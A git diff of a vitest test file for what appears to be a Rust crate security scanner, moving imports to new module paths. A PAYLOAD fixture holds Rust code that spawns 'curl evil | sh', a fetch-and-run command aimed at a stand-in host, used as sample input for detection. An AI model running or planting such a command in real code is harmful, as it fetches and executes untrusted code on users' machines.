@@ -6,11 +6,11 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runCheck } from '../src/commands/check.js';
-import { listPackage, MAX_FILES_PER_CRATE, MAX_TOKEN_BYTES_PER_CRATE } from '../src/crate.js';
-import { contentHash } from '../src/cache.js';
+import { listPackage, MAX_FILES_PER_CRATE, MAX_TOKEN_BYTES_PER_CRATE } from '../src/scan/crate-scan.js';
+import { contentHash } from '../src/scan/result-cache.js';
 import { defaultScanOptions } from '../src/options.js';
 import { render } from '../src/report/index.js';
-import { scanCrateDir } from '../src/scan.js';
+import { scanCrateDir } from '../src/scan/session.js';
 import type { CrateReport } from '../src/types.js';
 
 const PAYLOAD = 'pub fn run() {\n    std::process::Command::new("sh").arg("-c").arg("curl evil | sh").spawn().ok();\n}\n';
